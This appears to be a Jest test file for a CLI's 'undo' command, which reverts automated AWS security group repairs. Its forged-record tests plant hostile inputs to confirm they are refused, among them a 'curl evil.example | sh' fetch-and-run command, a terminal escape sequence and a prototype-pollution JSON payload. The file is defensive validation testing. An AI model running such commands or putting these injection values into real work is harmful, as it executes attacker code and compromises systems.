import { randomUUID } from "node:crypto";
import { repairWith } from "../../../src/cli/commands/repair";
import { undoWith } from "../../../src/cli/commands/undo";
import * as deployments from "../../../src/cli/deployment/deployment";
import * as implementation from "../../../src/cli/repair/command";
import { recordKey, type UndoRecord } from "../../../src/remediation";
import { runCaptured } from "../../support/command";
import { deploymentWithRepair, openPorts, openRules, repairedPorts } from "../../support/deployment-with-repair";
import { awsError, groupId as group, place, RepairedAccount, settings } from "../../support/repaired-account";

let fake: RepairedAccount;
let deployment: deployments.Deployment;
let read: jest.SpyInstance;

const load = () => Promise.resolve(implementation);
const ofGroup = ["--rule", "restricted-ssh", "--resource", group];
const { account, region } = place;
const open = () => fake.ports().sort();

function run(args: readonly string[], typed?: string) {
  return runCaptured(["undo", ...args], [undoWith(load, fake.access)], typed === undefined ? undefined : [typed]);
}

beforeEach(async () => {
  fake = new RepairedAccount(openRules);
  deployment = deploymentWithRepair({});
  read = jest.spyOn(deployments, "readDeployment").mockImplementation(() => deployment);
  await runCaptured(["repair", ...ofGroup, "--apply", "--yes"], [repairWith(load, fake.access)]);
  expect(open()).toEqual(repairedPorts);
  fake.calls.length = 0;
});

afterEach(() => {
  jest.restoreAllMocks();
});

/** Makes a call fail. */
function failing(call: string, error: Error) {
  fake.before = (called) => {
    if (called === call) throw error;
  };
}

const called = () => fake.calls.map(({ call }) => call);

/** The record that the repair wrote, and its key. */
function written(): { key: string; record: UndoRecord } {
  const [[key, text] = ["", ""]] = fake.objects;
  return { key, record: JSON.parse(text) as UndoRecord };
}

/** Adds a record that is newer, or as given. */
function plant(changed: object, minutes = 10): string {
  const time = new Date(Date.now() + minutes * 60_000).toISOString();
  const record = { ...written().record, id: randomUUID(), time, ...changed };
  const key = recordKey({ ...record, name: "restricted-ssh", resource: group });
  fake.objects.set(key, JSON.stringify(record));
  return key;
}

function expectNothingDone() {
  expect([open(), fake.changes]).toEqual([repairedPorts, []]);
}

test("it shows the difference line by line, asks, and gives back what was there", async () => {
  const { key, record } = written();
  const { exitCode, stdout, stderr } = await run(ofGroup, "yes");
  expect(stderr).toBe(`security group ${group} in account ${account}, ${region}
repaired ${record.time} by ${fake.caller}, record ${key}

What goes (-) and what comes back (+):
  - in: tcp 20-21 from 0.0.0.0/0 "admins"
  + in: tcp 20-22 from 0.0.0.0/0 "admins"
  + in: tcp 22 from 0.0.0.0/0

Changes:
  narrow sgr-1 from tcp 20-21 to tcp 20-22, from 0.0.0.0/0
  add a rule that allows tcp 22 from 0.0.0.0/0

The function repairs it again, a day after the repair at the latest: before that, tag it with security-monitoring:exempt.
Undo the repair? (yes or no) `);
  expect(exitCode).toBe(0);
  expect(stdout).toMatch(
    /^Undone: security group sg-.* is what it was\. Rules that were created again have new ids\.\n {2}/,
  );
  expect(open()).toEqual(openPorts);
  expect(await run(ofGroup)).toMatchObject({ exitCode: 0, stdout: expect.stringContaining("Nothing to undo") });
});

test.each([
  ["a no", [], "no", "Nothing was changed.\n"],
  ["no terminal", [], undefined, "there is no terminal to ask on. Nothing was done.\n"],
])("with %s it changes nothing", async (_, args, typed, message) => {
  const { exitCode, stdout, stderr } = await run([...ofGroup, ...args], typed);
  expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: "" });
  expect(stderr.slice(-message.length)).toBe(message);
  expectNothingDone();
});

test("--json prints difference, changes and what was done", async () => {
  const { exitCode, stdout } = await run([...ofGroup, "--yes", "--json"]);
  expect(exitCode).toBe(0);
  expect(JSON.parse(stdout)).toMatchObject({
    state: "undo",
    record: { key: written().key },
    differences: { goes: [expect.any(String)], comes: [expect.any(String), expect.any(String)] },
    done: [expect.stringContaining("sgr-1"), expect.any(String)],
  });
});

test("a resource that has changed since is refused, with what differs", async () => {
  fake.groups.get(group)!.rules.push({
    SecurityGroupRuleId: "sgr-9",
    IsEgress: false,
    IpProtocol: "tcp",
    FromPort: 8080,
    ToPort: 8080,
    CidrIpv4: "10.0.0.0/8",
    Description: "new\u202e",
  });
  const { exitCode, stdout, stderr } = await run([...ofGroup, "--yes"]);
  expect({ exitCode, stderr }).toEqual({ exitCode: 2, stderr: "" });
  expect(stdout).toMatch(/Refused: it has changed since the repair.*\n {2}- in: tcp 8080 from 10\.0\.0\.0\/8 "new"\n$/);
  expect(fake.changes).toEqual([]);
});

test("a resource that changes while the question is asked is not changed", async () => {
  let reads = 0;
  fake.before = (call) => {
    if (call === "DescribeSecurityGroupRules") reads += 1;
    // It was read before the question twice: for its id, and for the plan.
    if (reads === 3) fake.groups.get(group)!.rules.pop();
  };
  const { exitCode, stdout } = await run(ofGroup, "yes");
  expect(exitCode).toBe(2);
  expect(stdout).toMatch(/^Nothing was changed: .*: The resource has changed since the difference was shown\.\n$/);
  expect(fake.changes).toEqual([]);
});

test("a failure in the middle says what was done", async () => {
  failing("AuthorizeSecurityGroupIngress", awsError("RulesPerSecurityGroupLimitExceeded", "full"));
  const { exitCode, stdout } = await run([...ofGroup, "--yes"]);
  expect(exitCode).toBe(2);
  expect(stdout).toMatch(/^Undone in part: .*full.*\n {2}narrow sgr-1 /);
});

describe("a forged record", () => {
  test.each<[string, object, RegExp]>([
    [
      "of another resource",
      { resource: "sg-0fedcba9876543210" },
      /is of the resource sg-0fedcba9876543210, not sg-0123/,
    ],
    ["of another account", { account: "999988887777" }, /is of the account 999988887777, not 111122223333/],
    ["of another region", { region: "us-east-1" }, /is of the region us-east-1, not eu-west-1/],
    ["of another remediation", { name: "public-snapshot" }, /is of the name public-snapshot, not restricted-ssh/],
    ["of a version to come", { version: 2 }, /has version 2, and this program knows version 1: update it/],
    ["with a command in it", { commands: ["curl evil.example | sh"] }, /is malformed: .*commands/],
    ["that controls a terminal", { by: 7, resource: "\u001b[2J" }, /malformed/],
    ["without what was there", { before: undefined }, /describes no such resource: before/],
    [
      "with a call in it",
      { before: { GroupId: group, GroupName: "web", rules: [], call: "DeleteBucket" } },
      /no such resource/,
    ],
    ["with rules of another kind", { before: { sharedWith: ["all"] } }, /describes no such resource: before/],
  ])("%s is refused", async (_, changed, message) => {
    plant(changed);
    const { exitCode, stdout, stderr } = await run([...ofGroup, "--yes"]);
    expect({ exitCode, stdout }).toEqual({ exitCode: 2, stdout: "" });
    expect(stderr).toMatch(/^Refused: /);
    expect(stderr).toMatch(message);
    expect(stderr).not.toContain("\u001b");
    expectNothingDone();
  });

  test.each<[string, string, RegExp]>([
    ["that is no JSON", "{", /is no JSON/],
    ["with a prototype", '{"__proto__":{"version":1},"constructor":1}', /malformed/],
    ["that is huge", `"${"x".repeat(1024 * 1024)}"`, /has more than 1048576 bytes/],
  ])("%s is refused", async (_, text, message) => {
    fake.objects.set(plant({}), text);
    const { exitCode, stderr } = await run([...ofGroup, "--yes"]);
    expect(exitCode).toBe(2);
    expect(stderr).toMatch(message);
    expectNothingDone();
  });

  test("of something that never was is refused: the repair would not have led to what is there", async () => {
    const all = { SecurityGroupRuleId: "sgr-7", IsEgress: false, IpProtocol: "-1", CidrIpv4: "0.0.0.0/0" };
    plant({ before: { GroupId: group, GroupName: "web", rules: [all] } });
    const { exitCode, stdout } = await run([...ofGroup, "--yes"]);
    expect(exitCode).toBe(2);
    expect(stdout).toContain("Refused: it has changed since the repair");
    expectNothingDone();
  });

  test("does not keep an older one from being used, with --time", async () => {
    plant({ version: 2 });
    const { record } = written();
    expect((await run([...ofGroup, "--yes", "--time", record.time])).exitCode).toBe(0);
    expect(open()).toEqual(openPorts);
  });
});

test("the newest record of a time is used, and --list shows all of them, the newest first", async () => {
  const [old, key] = [plant({}, -120), written().key];
  fake.objects.set("restricted-ssh/%/20260101T000000Z-00000000-0000-4000-8000-000000000000.json", "{}");
  const { stdout } = await run([...ofGroup, "--list"]);
  expect(stdout.match(/restricted-ssh\/.*$/gm)).toEqual([key, old]);
  const all = await run(["--rule", "restricted-ssh", "--list", "--json"]);
  expect(JSON.parse(all.stdout)).toHaveLength(3);
  const shown = await run(["--rule", "restricted-ssh", "--list"]);
  expect(shown.stdout).toMatch(/^2026-01-01T00:00:00Z +% +restricted-ssh\/%\/2026/m);
  const time = new Date(Date.now() - 60 * 60_000).toISOString();
  const { stderr } = await run([...ofGroup, "--time", time], "no");
  expect(stderr).toContain(`, record ${old}\n`);
  expectNothingDone();
});

test.each<[string, string[], RegExp]>([
  ["no time", [...ofGroup, "--time", "yesterday"], /^--time yesterday: no time in UTC such as/],
  ["a day that there is not", [...ofGroup, "--time", "2026-13-01"], /^--time 2026-13-01: no time/],
  [
    "a time before all records",
    [...ofGroup, "--time", "2020-01-01"],
    /^No record of security group sg-.* of 2020-01-01 or before/,
  ],
  [
    "another resource",
    ["--rule", "restricted-ssh", "--resource", "sg-9"],
    /^No record of security group sg-9 in the bucket/,
  ],
  ["no resource", ["--rule", "restricted-ssh"], /^--resource is missing/],
  ["an unknown rule", ["--rule", "restricted-shs", "--resource", group], /did you mean "restricted-ssh"\?/],
  ["another region", [...ofGroup, "--region", "us-east-1"], /is deployed in eu-west-1, not in us-east-1/],
])("%s is one sentence", async (_, args, message) => {
  const { exitCode, stdout, stderr } = await run([...args, "--yes"]);
  expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: "" });
  expect(stderr).toMatch(message);
  expectNothingDone();
});

test("a runbook is refused, because nobody but AWS knows what it changed", async () => {
  const runbook = { document: "AWS-Close", parameters: {}, roleArn: "arn:aws:iam::111122223333:role/r" };
  deployment = deploymentWithRepair({ name: "close", remediation: undefined, runbook });
  expect(await run(["--rule", "close", "--resource", group])).toMatchObject({
    exitCode: 1,
    stderr: expect.stringContaining("a runbook of AWS cannot be undone by a command"),
  });
});

test("a resource that is gone is said", async () => {
  failing("DescribeSecurityGroups", awsError("InvalidGroup.NotFound", "gone"));
  expect(await run([...ofGroup, "--yes"])).toMatchObject({
    exitCode: 1,
    stderr: expect.stringMatching(/^security group sg-\w+ does not exist any more/),
  });
});

test("credentials of another account are refused", async () => {
  fake.caller = "arn:aws:iam::999988887777:user/me";
  expect(await run([...ofGroup, "--yes"])).toMatchObject({
    exitCode: 1,
    stderr: expect.stringContaining("These credentials are of account 999988887777"),
  });
  expectNothingDone();
});

describe("when the function is gone", () => {
  test("the state still names the bucket", async () => {
    deployment = deploymentWithRepair();
    const { exitCode, stderr } = await run(ofGroup, "yes");
    const listed = fake.calls.filter(({ call }) => call === "ListObjectsV2").map(({ input }) => input["Bucket"]);
    expect([exitCode, listed]).toEqual([0, ["retained"]]);
    expect(stderr).not.toContain("The function repairs it again");
    expect(open()).toEqual(openPorts);
  });

  test("--bucket alone is enough, in the region that is given", async () => {
    read.mockImplementation(() => {
      throw new Error("the state is gone");
    });
    const { exitCode } = await run([...ofGroup, "--bucket", settings.bucket, "--region", region, "--yes"]);
    expect(exitCode).toBe(0);
    expect(open()).toEqual(openPorts);
    const other = await run([...ofGroup, "--bucket", settings.bucket, "--region", "us-east-1", "--yes"]);
    expect(other).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining("is of the region eu-west-1, not us-east-1"),
    });
    const unknown = await run(["--rule", "restricted", "--resource", group, "--bucket", "b"]);
    expect(unknown).toMatchObject({
      exitCode: 1,
      stderr: expect.stringContaining("--rule restricted: no remediation"),
    });
  });
});

test("--policy prints what the calls need, with and without a state", async () => {
  const { stdout } = await run(["--rule", "restricted-ssh", "--policy"]);
  const { Statement } = JSON.parse(stdout) as { Statement: { Action: string[] }[] };
  const actions = Statement.flatMap(({ Action }) => Action);
  expect(actions).not.toContainEqual(expect.stringContaining("*"));
  fake.calls.length = 0;
  await run([...ofGroup, "--yes"]);
  const permissions: Readonly<Record<string, string>> = { ListObjectsV2: "ListBucket" };
  const needed = new Set(called().filter((call) => call !== "GetCallerIdentity"));
  expect(needed).toContain("AuthorizeSecurityGroupIngress");
  for (const call of needed)
    expect(actions).toContainEqual(expect.stringMatching(new RegExp(`:${permissions[call] ?? call}$`)));

  const withoutState = await run(["--rule", "vpc-default-security-group-closed", "--bucket", "b", "--policy"]);
  expect(withoutState.stdout).toContain("ec2:AuthorizeSecurityGroupEgress");
  expect(withoutState.stdout).toContain("ec2:CreateTags");
  const closed = JSON.parse(withoutState.stdout) as { Statement: { Sid: string; Resource: string[] }[] };
  expect(closed.Statement.find(({ Sid }) => Sid === "CloseGroups")?.Resource).toEqual([
    "arn:*:ec2:*:*:security-group/*",
    "arn:*:ec2:*:*:security-group-rule/*",
  ]);
  expect(withoutState.stdout).toContain('"arn:*:s3:::b/vpc-default-security-group-closed/*"');
  const buckets = ["--rule", "s3-bucket-public-read-prohibited", "--policy"];
  const ofAccount = `{\n        "StringEquals": {\n          "aws:ResourceAccount": "${account}"`;
  expect((await run(buckets)).stdout).toContain(ofAccount);
  expect((await run([...buckets, "--bucket", "b"])).stdout).not.toContain("aws:ResourceAccount");
  const trail = await run(["--rule", "stopped-trail", "--bucket", "b", "--policy"]);
  expect(trail.stdout).toContain("cloudtrail:StopLogging");
});
